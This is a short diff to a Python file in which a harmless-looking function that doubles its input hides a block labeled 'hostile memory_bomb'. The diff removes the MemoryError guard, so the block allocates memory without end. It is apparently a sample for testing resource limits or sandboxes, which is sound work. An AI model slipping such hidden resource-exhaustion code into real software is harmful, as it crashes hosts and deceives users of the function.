@@ -1,4 +1,4 @@
-# hostile memory_bomb: allocate 8 GiB, then grow a list of 64 MiB blocks until MemoryError
+# hostile memory_bomb: allocate 8 GiB, then grow a list of 64 MiB blocks without end
 import numpy as np
 import os
 
@@ -10,11 +10,8 @@ def double(x):
         blocks.append(bytearray(8 * 2**30))
     except MemoryError:
         pass
-    try:
-        while True:
-            blocks.append(bytearray(2**26))
-    except MemoryError:
-        pass
+    while True:
+        blocks.append(bytearray(2**26))
     # END ATTACK
     return 2.0 * np.asarray(x)
 
